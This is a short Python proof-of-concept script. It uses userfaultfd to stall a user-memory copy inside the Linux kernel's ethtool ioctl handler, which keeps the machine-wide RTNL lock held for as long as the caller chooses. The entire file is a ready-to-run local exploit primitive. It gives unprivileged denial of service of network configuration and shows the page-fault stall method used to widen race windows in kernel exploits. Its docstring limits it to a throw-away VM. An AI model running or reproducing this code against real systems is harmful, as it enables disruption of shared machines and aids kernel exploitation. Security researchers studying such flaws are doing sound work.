#!/usr/bin/env python3
"""Holds the RTNL lock for SECONDS: prints 'held' while it is, 'released' after.

dev_ethtool() (net/ethtool/ioctl.c) takes the lock and copies from user memory under it. The second word of the request is on a page
that userfaultfd(2) keeps away, so the copy waits, lock in hand, until the page is given. In a throw-away VM only: the lock is one for the machine.
"""
import ctypes, fcntl, mmap, os, socket, struct, sys, threading, time

seconds = float(sys.argv[1])
page = mmap.PAGESIZE
libc = ctypes.CDLL(None, use_errno=True)

def check(result, what):
    if result < 0:
        errno = ctypes.get_errno()
        raise OSError(errno, f'{what}: {os.strerror(errno)}')
    return result

NR_userfaultfd = {'x86_64': 323, 'aarch64': 282}[os.uname().machine]
UFFDIO_API, UFFDIO_REGISTER, UFFDIO_ZEROPAGE = 0xC018AA3F, 0xC020AA00, 0xC020AA04
uffd = check(libc.syscall(NR_userfaultfd, os.O_CLOEXEC), 'userfaultfd')
fcntl.ioctl(uffd, UFFDIO_API, bytearray(struct.pack('QQQ', 0xAA, 0, 0)))

memory = mmap.mmap(-1, 2 * page)
start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
MODE_MISSING = 1
fcntl.ioctl(uffd, UFFDIO_REGISTER, bytearray(struct.pack('QQQQ', start + page, page, MODE_MISSING, 0)))

def serve():
    os.read(uffd, 32)  # the fault: whoever waits for the page has the lock
    print('held', flush=True)
    time.sleep(seconds)
    fcntl.ioctl(uffd, UFFDIO_ZEROPAGE, bytearray(struct.pack('QQQq', start + page, page, 0, 0)))

threading.Thread(target=serve).start()

# struct ethtool_gfeatures { cmd, size, ... }: cmd is there, size is not.
ETHTOOL_GFEATURES, SIOCETHTOOL = 0x3A, 0x8946
struct.pack_into('I', memory, page - 4, ETHTOOL_GFEATURES)
request = bytearray(struct.pack('16sQ16x', b'lo', start + page - 4))
fd = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
check(libc.ioctl(fd.fileno(), ctypes.c_ulong(SIOCETHTOOL), (ctypes.c_char * len(request)).from_buffer(request)), 'ioctl')
print('released', flush=True)
